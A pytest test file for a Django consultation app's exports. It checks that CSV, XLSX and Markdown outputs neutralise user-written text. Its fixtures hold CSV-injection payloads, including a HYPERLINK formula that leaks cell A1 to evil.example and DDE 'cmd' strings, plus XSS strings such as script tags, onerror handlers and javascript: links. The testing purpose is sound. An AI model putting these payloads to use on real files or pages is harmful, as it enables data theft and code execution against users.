"""What users write reaches exports as text, never as something that runs: no live formula in any
spreadsheet (CSV and XLSX register, the admin's CSV export), no link, image or HTML in the Markdown pack."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse
from markdown_it import MarkdownIt

from evidence.models import Answer, ComponentTag
from evidence.spreadsheets import FORMULA_TRIGGERS, spreadsheet_cell
from recommendations import services
from recommendations.exports import register
from recommendations.exports.writers import md, write_markdown
from tests import factories

pytestmark = pytest.mark.django_db

# The usual payloads (OWASP, "CSV injection"), one per trigger character.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile(consultation, reviewer):
    """Responses whose every free-text field a user controls starts with a payload."""
    question = consultation.questions.first()
    made = []
    for n, payload in enumerate(PAYLOADS):
        s = factories.SubmittedSubmissionFactory(
            consultation=consultation,
            summary=payload,
            proposals=payload,
            organisation__name=f"{payload} {n}",
            review_state="reviewed",
        )
        Answer.objects.create(submission=s, question=question, text=f"Answer {n}")
        ComponentTag.objects.create(submission=s, component=question.component, reviewer=reviewer, grade="B")
        factories.DataPointFactory(submission=s, source=payload, notes=payload)
        made.append(s)
    return made


def _assert_inert(values):
    live = [v for v in values if isinstance(v, str) and v.startswith(FORMULA_TRIGGERS)]
    assert live == []


def test_the_csv_register_neutralises_every_cell_and_keeps_the_text(hostile, tmp_path):
    for sheet in ("submissions", "data_points"):
        out = io.BytesIO()
        register.write_csv(hostile[0].consultation, out, sheet=sheet)
        rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"))))
        cells = [c for row in rows for c in row]
        _assert_inert(cells)
        for payload in PAYLOADS[:4]:
            assert "'" + payload in cells or any(c.startswith("'" + payload) for c in cells), (sheet, payload)


def test_the_xlsx_register_has_no_formula_and_keeps_the_text(hostile, tmp_path):
    out = io.BytesIO()
    register.write_xlsx(hostile[0].consultation, out)
    out.seek(0)
    workbook = openpyxl.load_workbook(out)
    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    _assert_inert([c.value for c in cells])
    assert "'" + PAYLOADS[0] in [c.value for c in cells]
    # Figures we wrote stay numbers (a negative number is not a payload).
    assert any(isinstance(c.value, (int, float)) and not isinstance(c.value, bool) for c in cells)


def test_the_admins_csv_export_neutralises_what_users_wrote(hostile, lead):
    client = Client()
    client.force_login(lead)
    response = client.post(
        reverse("admin:evidence_submission_changelist"),
        {"action": "export_csv", "_selected_action": [s.pk for s in hostile]},
    )
    body = b"".join(response.streaming_content).decode()
    cells = [c for row in csv.reader(io.StringIO(body)) for c in row]
    _assert_inert(cells)
    assert "'" + PAYLOADS[0] in cells


def test_numbers_we_wrote_are_left_alone():
    from decimal import Decimal

    assert spreadsheet_cell(-29) == -29 and spreadsheet_cell(Decimal("-7000")) == Decimal("-7000")
    assert spreadsheet_cell("Skills and talent") == "Skills and talent"
    assert spreadsheet_cell("-2+3") == "'-2+3"


MARKDOWN_PAYLOADS = [
    "[click here](javascript:alert(document.cookie))",
    "![tracker](http://evil.example/pixel.png)",
    '<img src=x onerror="alert(1)">',
    "<script>alert(1)</script>",
    "<a href='javascript:alert(1)'>details</a>",
    "line one\n\n# A heading they added\n\n<iframe src=//evil.example>",
    "[ref]: javascript:alert(1)",
    "[1]: javascript:alert(1)",
]


def _rendered(text: str) -> str:
    return MarkdownIt("commonmark").render(text)


@pytest.mark.parametrize("payload", MARKDOWN_PAYLOADS)
def test_markdown_escaping_leaves_no_link_image_or_html(payload):
    html = _rendered(f"- {md(payload)}")
    for bad in ("<a ", "<img", "<script", "<iframe", "<h1", "javascript:alert(1)</a"):
        assert bad not in html, (payload, html)
    # The words are still there to read.
    assert "alert" in html or "heading" in html or "tracker" in html


def test_the_markdown_pack_carries_submitter_text_as_text(
    consultation, reviewer, lead, django_capture_on_commit_callbacks
):
    question = consultation.questions.get(component__slug="skills")
    for n in range(6):
        s = factories.SubmittedSubmissionFactory(
            consultation=consultation,
            review_state="reviewed",
            consent_to_publish=True,
            organisation__name=f"{MARKDOWN_PAYLOADS[n % 5]} {n}",
            proposals=f"Fund a national training centre {MARKDOWN_PAYLOADS[n % 5]}.",
        )
        Answer.objects.create(
            submission=s,
            question=question,
            text=f"We have {30 + n} vacancies for process engineers. {MARKDOWN_PAYLOADS[n % 5]}",
        )
        ComponentTag.objects.create(submission=s, component=question.component, reviewer=reviewer, grade="B")
    with django_capture_on_commit_callbacks(execute=True):
        run = services.compilation_start(consultation=consultation, by=lead)
    run.refresh_from_db()
    assert run.state == "succeeded"
    from recommendations.exports.pack import build_pack

    out = io.BytesIO()
    write_markdown(build_pack(run), out)
    text = out.getvalue().decode()
    html = _rendered(text)
    assert "alert" in text  # the payloads reached the pack (as text)
    for bad in ("<img", "<script", 'href="javascript', "<iframe"):
        assert bad not in html
